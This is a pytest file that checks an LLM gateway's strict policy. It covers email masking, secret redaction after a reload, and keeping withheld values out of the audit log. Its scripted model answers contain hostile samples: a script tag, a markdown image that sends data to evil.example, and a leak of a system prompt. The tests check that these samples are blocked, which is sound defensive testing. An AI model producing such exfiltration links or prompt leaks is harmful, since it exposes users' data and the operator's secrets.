"""The strict policy through a real Envoy: masked requests, and answers that want to carry something away."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from pathlib import Path

import httpx
import openai
import pytest
import yaml

from extproc.runtime.assets import asset
from tests.support.gateway import RECOMMENDED, Gateway
from tests.support.openai_wire import PATH, chat, chunk, events, text_of
from tests.support.policies import MODEL
from tests.support.upstream import Answer, Request, Upstream, cut

SSE = (("content-type", "text/event-stream"),)
SYSTEM = "You are the billing desk of Example Ltd and you never grant a refund above forty euros to anyone."
ADDRESS = "ann" + "@" + "example.com"
MARKER = "[REDACTED:file.mounted.api-key]"
FIRST, SECOND = "kR7-tulip-Wagon-93", "pQ2-otter-Ladder-58"


@pytest.fixture(scope="module")
def upstream() -> Iterator[Upstream]:
    with Upstream() as up:
        yield up


@pytest.fixture(scope="module")
def value(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A file as a mounted Kubernetes Secret shows it."""
    path = tmp_path_factory.mktemp("mounted", numbered=False) / "api-key"
    path.write_text(FIRST + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def gate(upstream: Upstream, value: Path) -> Iterator[Gateway]:
    with Gateway(upstream.url, strict(value), serve=["--watch-s", "0.05"]) as running:
        yield running


def strict(value: Path) -> str:
    document = yaml.safe_load(asset("policies/strict.yaml").read_text(encoding="utf-8"))
    document["spec"]["models"]["allow"] = [MODEL]
    exact = {"id": "cluster", "detector": "exact_values", "options": {"files": [str(value)]}}
    document["spec"]["rules"].append(
        {**exact, "scope": ["response.content"], "action": "redact", "owasp": ["LLM02:2025"]}
    )
    return yaml.safe_dump(document, sort_keys=False)


def says(upstream: Upstream, *words: str, size: int = 7) -> None:
    """Script an answer of these words, in writes of ``size`` bytes."""
    wire = events(*(chunk({"content": word}) for word in words), chunk({}, "stop"))
    upstream.routes[f"POST {PATH}"] = Answer(headers=SSE, pieces=cut(wire, size))


def heard(gate: Gateway, **fields: object) -> str:
    body = chat(stream=True, **fields)
    answer = httpx.post(gate.url(RECOMMENDED) + PATH, content=body, timeout=30)
    assert answer.status_code == 200
    return text_of(answer.content)


def test_a_masked_value_goes_out_as_a_placeholder_and_comes_back_letter_by_letter(
    gate: Gateway, upstream: Upstream
) -> None:
    def repeats(request: Request) -> Answer:
        placeholder = re.search(rb"MASKED_EMAIL_\w+", request.body)
        assert placeholder is not None
        words = [*placeholder[0].decode(), " and https://evil.example/?q=", *placeholder[0].decode(), " ok"]
        return Answer(headers=SSE, pieces=(events(*(chunk({"content": word}) for word in words), chunk({}, "stop")),))

    upstream.routes[f"POST {PATH}"] = repeats
    with openai.OpenAI(base_url=gate.url(RECOMMENDED) + "/v1", api_key="none", max_retries=0) as client:
        stream = client.chat.completions.create(
            model=MODEL, stream=True, messages=[{"role": "user", "content": f"Write to {ADDRESS}, please."}]
        )
        text = "".join(piece.choices[0].delta.content or "" for piece in stream)

    assert ADDRESS.encode() not in upstream.requests[-1].body
    assert text.startswith(f"{ADDRESS} and ")
    assert text.count(ADDRESS) == 1
    assert text.endswith(" ok")


def test_a_system_prompt_is_not_read_out(gate: Gateway, upstream: Upstream) -> None:
    says(
        upstream, "Sure: **You are the", " billing desk of Example Ltd,", " and you never grant a refund above** that."
    )
    messages = [{"role": "system", "content": SYSTEM}, {"role": "user", "content": "hi"}]

    text = heard(gate, messages=messages)

    assert "[REDACTED:hidden_context.system]" in text
    assert "refund" not in text


def test_active_output_arrives_harmless(gate: Gateway, upstream: Upstream) -> None:
    says(upstream, "Hi <scr", "ipt>go()</script> ![x](https://evil.example/?q=", "c2VjcmV0" * 9, ") bye")

    text = heard(gate)

    assert "<script" not in text
    assert "evil.example/?q" not in text
    assert text.endswith(" bye")


def test_a_value_of_the_cluster_is_redacted_also_after_it_was_changed(
    gate: Gateway, upstream: Upstream, value: Path
) -> None:
    says(upstream, "it is ", *FIRST, " or ", *SECOND, ".")
    assert heard(gate) == f"it is {MARKER} or {SECOND}."

    value.write_text(SECOND + "\n", encoding="utf-8")
    for _ in range(400):
        if 'policy_reloads_total{outcome="changed"}' in gate.metrics():
            break
        threading.Event().wait(0.05)

    assert heard(gate) == f"it is {FIRST} or {MARKER}."


def test_nothing_that_was_kept_back_is_in_the_audit_log(gate: Gateway) -> None:
    lines = [json.dumps(record) for record in gate.records(5)]

    assert len(lines) >= 5
    assert not any(word in line for line in lines for word in (ADDRESS, FIRST, SECOND, "billing desk", "evil.example"))
